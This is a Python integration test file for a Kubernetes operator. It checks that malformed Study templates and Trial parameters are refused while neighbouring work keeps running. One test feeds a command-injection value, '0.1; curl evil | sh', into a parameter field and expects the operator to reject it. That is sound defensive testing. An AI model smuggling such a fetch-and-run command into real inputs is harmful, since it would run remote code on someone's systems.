"""One bad object harms only itself: a real API server, a real operator, and a good neighbour."""

import copy
from typing import Any

import pytest

from tests.integration.running import (
    JOB,
    STUDY,
    TRIAL,
    Bench,
    eventually,
    operator,
    scenario,
    study,
)


def spoilt(change: dict[str, Any], at: tuple[Any, ...] = ()) -> dict[str, Any]:
    """A Study whose template has some fields overwritten."""
    template = copy.deepcopy(study()["spec"]["template"])
    node: Any = template
    for key in at:
        node = node[key]
    node.update(change)
    return study("bad", template=template)


POD, CONTAINER = ("spec",), ("spec", "containers", 0)
BAD = {
    "metadata that is a word": (spoilt({"metadata": "x"}), "spec.template.metadata"),
    "labels that are a list": (
        spoilt({"metadata": {"labels": ["a"]}}),
        "spec.template.metadata.labels",
    ),
    "finalizers": (
        spoilt({"metadata": {"finalizers": ["a.example/b"]}}),
        "spec.template.metadata.finalizers",
    ),
    "mounts that are words": (
        spoilt({"volumeMounts": ["a"]}, CONTAINER),
        "spec.template.spec.containers[0].volumeMounts[0]",
    ),
    "a mount path that is a number": (
        spoilt({"volumeMounts": [{"name": "a", "mountPath": 5}]}, CONTAINER),
        "spec.template.spec.containers[0].volumeMounts[0].mountPath",
    ),
    "a security context that is a word": (
        spoilt({"securityContext": "x"}, POD),
        "spec.template.spec.securityContext",
    ),
    "resources that are a word": (
        spoilt({"resources": "x"}, CONTAINER),
        "spec.template.spec.containers[0].resources",
    ),
    "a field that is too large": (spoilt({"x": "y" * 70_000}), "spec.template: expected at most"),
    "a misspelt field of the pod": (
        spoilt({"nodeSelecter": {"a": "b"}}, POD),
        'unknown field "spec.template.spec.nodeSelecter"',
    ),
    "a misspelt field of a container": (
        spoilt({"resource": {"limits": {}}}, CONTAINER),
        'unknown field "spec.template.spec.containers[0].resource"',
    ),
}


@pytest.mark.parametrize("fault", BAD)
@scenario
async def test_a_bad_template_is_named_and_the_neighbour_runs(fault, control_plane, tmp_path):
    body, named = BAD[fault]
    async with operator(control_plane, tmp_path) as (at, _):
        await at.create(body)
        await at.create(study())
        condition = await at.wait_condition(STUDY, "bad", "Accepted", "False")
        assert named in condition["message"]
        await at.pod_of("study-0")
        assert [name for name in await at.names(TRIAL) if name.startswith("bad")] == []


def by_hand(name: str, parameters: dict[str, Any]) -> dict[str, Any]:
    return {
        "apiVersion": "espalier.dev/v1alpha1",
        "kind": "Trial",
        "metadata": {"name": name},
        "spec": {"study": {"name": "study"}, "parameters": parameters},
    }


async def ended(at: Bench, name: str) -> dict[str, Any]:
    async def probe() -> Any:
        found = await at.condition(TRIAL, name, "Finished")
        return found if found and found["status"] == "True" else None

    condition: dict[str, Any] = await eventually(f"{name} to end", probe)
    return condition


@scenario
async def test_a_bad_trial_ends_alone_and_the_study_goes_on(control_plane, tmp_path):
    bad = {
        "named": {"lr": 0.1, "x=y": 1},
        "listed": {"lr": []},
        "shell": {"lr": "0.1; curl evil | sh"},
        "far": {"lr": 100},
        "empty": {},
    }
    async with operator(control_plane, tmp_path) as (at, _):
        await at.create(study(trials={"max": 1, "parallelism": 8, "maxFailed": 9, "retries": 0}))
        await at.pod_of("study-0")
        for name, parameters in bad.items():
            await at.create(by_hand(name, parameters), TRIAL)
        for name in bad:
            condition = await ended(at, name)
            assert condition["reason"] == "ParametersRefused"
            assert "spec.parameters" in condition["message"]
        await at.wait_condition(STUDY, "study", "Accepted", "True")
        await at.create(by_hand("good", {"lr": 0.5}), TRIAL)
        await at.pod_of("good")


@scenario
async def test_a_trial_as_old_as_its_study_does_not_run_as_its_service_account(
    control_plane, tmp_path
):
    template = copy.deepcopy(study()["spec"]["template"])
    template["spec"]["serviceAccountName"] = "robot"
    async with operator(control_plane, tmp_path) as (at, _):
        await at.create(by_hand("early", {"lr": 0.1}), TRIAL)
        wide = {"max": 1, "parallelism": 3, "maxFailed": 3, "retries": 0}
        await at.create(study(template=template, trials=wide))
        condition = await ended(at, "early")
        assert condition["reason"] == "ParametersRefused"
        assert "names service account robot" in condition["message"]

        async def jobs() -> bool:
            return "study-0" in await at.names(JOB)

        await eventually("the Study's own trials to start", jobs)
        assert "early" not in await at.names(JOB)
